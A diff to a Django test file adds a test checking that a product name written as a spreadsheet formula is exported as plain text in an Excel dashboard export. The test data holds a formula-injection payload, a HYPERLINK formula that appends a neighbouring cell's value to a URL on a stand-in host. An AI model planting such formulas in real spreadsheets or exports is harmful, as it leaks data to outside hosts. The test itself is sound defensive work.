@@ -238,3 +238,16 @@ def test_demo_run_is_made_activated_scanned_and_seeded_once(places, settings, tm
     call_command("seed_demo", stdout=again)
     assert (StampRun.objects.count(), Stamp.objects.count(), Scan.objects.count()) == counts
     assert again.getvalue() == output.getvalue()
+
+
+def test_a_product_name_that_looks_like_a_formula_stays_text_in_the_export(
+    client, coop_member, coop, scanned
+):
+    name = '=HYPERLINK("http://x.example/?"&A2,"Xem")'
+    type(scanned.product).objects.filter(pk=scanned.product_id).update(name=name)
+    client.force_login(coop_member)
+    response = client.get(reverse("stamps:dashboard-export", args=[coop.slug]))
+    flagged = load_workbook(io.BytesIO(response.content)).worksheets[2]
+    cell = flagged["C2"]
+    assert (cell.data_type, cell.value) == ("s", "'" + name)
+    assert flagged["B2"].data_type == "n"  # the stamp's number stays a number
